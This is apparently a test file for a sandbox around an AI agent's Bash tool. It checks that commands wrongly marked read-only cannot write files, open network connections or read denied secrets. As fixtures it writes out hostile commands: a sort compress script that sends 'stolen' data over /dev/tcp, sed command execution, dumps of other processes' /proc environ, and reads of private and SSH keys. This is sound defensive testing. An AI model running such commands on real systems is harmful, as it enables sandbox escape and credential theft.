/**
 * A wrong verdict is harmless: a Bash whose classifier calls every command read-only (as a gap in
 * the read-only list would) runs commands that execute code or write, and the read-only profile
 * contains each. Real bubblewrap; effects checked on the host.
 */
import { chmodSync, existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { buildTool } from '../../src/core/build-tool.js';
import type { AnyTool } from '../../src/core/tool.js';
import { loadBashParser } from '../../src/permissions/bash/parser.js';
import { createBashTool } from '../../src/tools/bash.js';
import { connectScript, makeWorld, sandboxedContext, startTcpListener, type Listener, type SandboxWorld } from '../support/sandbox-fixtures.js';

/** Bash as it is, except that it calls everything read-only. */
function bashThatCallsEverythingReadOnly(): AnyTool {
  const bash = createBashTool();
  return buildTool({ ...bash, isReadOnly: () => true, isConcurrencySafe: () => true }) as unknown as AnyTool;
}

let world: SandboxWorld;
let listener: Listener;
beforeAll(async () => {
  await loadBashParser();
});
beforeEach(async () => {
  listener = await startTcpListener();
  world = makeWorld({
    'connect.js': connectScript(listener.port, 'stolen'),
    'compress.sh': `#!/bin/bash\necho pwned > "$WS/sort-marker.txt"\n(echo stolen > /dev/tcp/127.0.0.1/${'$PORT'}) 2>/dev/null && echo ESCAPE sort-connect >&2\nexec cat\n`,
    'secrets/key.pem': 'PRIVATE-KEY-MATERIAL\n',
  });
  chmodSync(join(world.workspace, 'compress.sh'), 0o755);
});
afterEach(async () => {
  await listener.close();
  world.cleanup();
});

describe('the read-only profile', () => {
  it('contains commands a read-only classifier got wrong: nothing they run can write or connect', async () => {
    // Even a host the policy lists is out of reach: a call allowed as read-only never gets network.
    const policy = `sandbox:\n  network:\n    allowedDomains: ["127.0.0.1:${listener.port}"]\n`;
    const sandbox = await sandboxedContext(world, policy, [bashThatCallsEverythingReadOnly()]);
    try {
      const ws = world.workspace;
      const outside = join(world.root, 'sed-outside.txt');
      const sed = await sandbox.call('Bash', { command: `echo x | sed 's/x/touch ${outside.replaceAll('/', '\\/')}/e'; echo x | sed 's/x/echo pwned > ${join(ws, 'sed.txt').replaceAll('/', '\\/')}/e'` });
      expect(sed.text).toMatch(/Read-only file system/);
      // Two temporary files' worth of input, so sort runs its compress program.
      const sort = await sandbox.call('Bash', { command: `export WS=${ws} PORT=${listener.port}; seq 1 60000 | sort -S 200K --compress-program=./compress.sh > /dev/null; echo sorted` });
      expect(sort.text).toContain('sort-marker.txt: Read-only file system');
      const write = await sandbox.call('Bash', { command: 'echo x > inside.txt; echo $? ; echo scratch-ok-7f3 > "$TMPDIR/note" && cat "$TMPDIR/note"' });
      const net = await sandbox.call('Bash', { command: 'node connect.js' });

      expect(existsSync(outside)).toBe(false);
      expect(existsSync(join(ws, 'sed.txt'))).toBe(false);
      expect(existsSync(join(ws, 'sort-marker.txt'))).toBe(false);
      expect(existsSync(join(ws, 'inside.txt'))).toBe(false);
      expect(write.text).toMatch(/inside\.txt: Read-only file system/);
      // The one writable place is the call's private scratch folder.
      expect(write.text).toMatch(/^scratch-ok-7f3$/m);
      expect(write.text).not.toMatch(/note: Read-only file system/);
      expect(listener.hits()).toBe(0);
      for (const result of [sort, net]) expect(result.text).not.toContain('ESCAPE');
      expect(net.text).toContain('direct refused');
      expect(net.text).toContain('proxy refused: 403');
      // The refused connection is reported, with no policy line to offer: read-only calls never get network.
      expect(net.outcome.refusals).toEqual([
        expect.objectContaining({ host: '127.0.0.1', port: listener.port, suggestedRule: null, unpermittable: 'a call allowed as read-only never gets network' }),
      ]);
    } finally {
      await sandbox.close();
    }
  });

  it('attributes each refused connection to its own call when read-only calls run in parallel', async () => {
    const second = await startTcpListener();
    const sandbox = await sandboxedContext(world, '{}', [bashThatCallsEverythingReadOnly()]);
    try {
      const { runToolUses } = await import('../../src/core/orchestration.js');
      const { noHooks } = await import('../../src/core/hook-types.js');
      const proxied = (port: number) => `node -e ${JSON.stringify(connectScript(port, 'x').replaceAll('\n', ' '))}`;
      const result = await runToolUses(
        [
          { id: 'toolu_a', name: 'Bash', input: { command: `sleep 0.2; ${proxied(listener.port)}` } },
          { id: 'toolu_b', name: 'Bash', input: { command: proxied(second.port) } },
        ],
        sandbox.context,
        { gate: { decide: async () => ({ behavior: 'allow', rule: null, reason: 'allowed by the test' }) }, hooks: noHooks },
      );
      const ports = Object.fromEntries(result.outcomes.map((outcome) => [outcome.toolUseId, (outcome.refusals ?? []).map((refusal) => refusal.port)]));
      expect(ports).toEqual({ toolu_a: [listener.port], toolu_b: [second.port] });
    } finally {
      await sandbox.close();
      await second.close();
    }
  });

  it("cannot read Tollgate's own environment, even through the parent's /proc entry", async () => {
    // The test's own process (Tollgate here) was started with VITEST_* variables: they are what must not show.
    expect(readFileSync('/proc/self/environ', 'utf8')).toContain('VITEST');
    const sandbox = await sandboxedContext(world, '{}', [bashThatCallsEverythingReadOnly()]);
    try {
      const result = await sandbox.call('Bash', {
        command: `diff --to-file=/proc/$PPID/environ /dev/null | tr '\\0' '\\n'; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f"; done; cat /proc/${process.pid}/environ`,
      });
      expect(result.text).toMatch(/No such file or directory/);
      expect(result.text).not.toContain('VITEST');
    } finally {
      await sandbox.close();
    }
  });

  it('hides files under a Read deny rule and sandbox.filesystem.denyRead, in both profiles', async () => {
    const policy = 'permissions:\n  deny: ["Read(./secrets/**)"]\nsandbox:\n  filesystem:\n    denyRead: ["~/.ssh"]\n';
    const { mkdirSync, writeFileSync } = await import('node:fs');
    mkdirSync(join(world.home, '.ssh'));
    writeFileSync(join(world.home, '.ssh', 'id_ed25519'), 'SSH-KEY-MATERIAL\n');
    const sandbox = await sandboxedContext(world, policy, [createBashTool() as unknown as AnyTool]);
    try {
      const readOnly = await sandbox.call('Bash', { command: 'cat secrets/key.pem; cat ~/.ssh/id_ed25519; cat src/index.js' });
      const writing = await sandbox.call('Bash', { command: 'cat secrets/key.pem > copy.txt; cat ~/.ssh/id_ed25519 >> copy.txt; cat copy.txt' });
      for (const result of [readOnly, writing]) {
        expect(result.text).not.toContain('PRIVATE-KEY-MATERIAL');
        expect(result.text).not.toContain('SSH-KEY-MATERIAL');
      }
      expect(readOnly.text).toContain('export const answer = 42;');
      expect(readFileSync(join(world.workspace, 'copy.txt'), 'utf8')).not.toContain('KEY-MATERIAL');
    } finally {
      await sandbox.close();
    }
  });

  it('hides a file under a literal deny path that a later call creates, from the cached read-only wrap too', async () => {
    const policy = 'sandbox:\n  filesystem:\n    denyRead: ["./late-secret.txt"]\n';
    const sandbox = await sandboxedContext(world, policy, [createBashTool() as unknown as AnyTool]);
    try {
      // The read-only wrap is made (and cached) while the file does not exist yet.
      const before = await sandbox.call('Bash', { command: 'cat src/index.js' });
      expect(before.text).toContain('export const answer = 42;');
      await sandbox.call('Bash', { command: 'echo LATE-SECRET-MATERIAL > late-secret.txt' });
      expect(readFileSync(join(world.workspace, 'late-secret.txt'), 'utf8')).toContain('LATE-SECRET-MATERIAL');
      const after = await sandbox.call('Bash', { command: 'cat late-secret.txt; cat src/index.js' });
      expect(after.text).not.toContain('LATE-SECRET-MATERIAL');
      expect(after.text).toContain('export const answer = 42;');
    } finally {
      await sandbox.close();
    }
  });
});
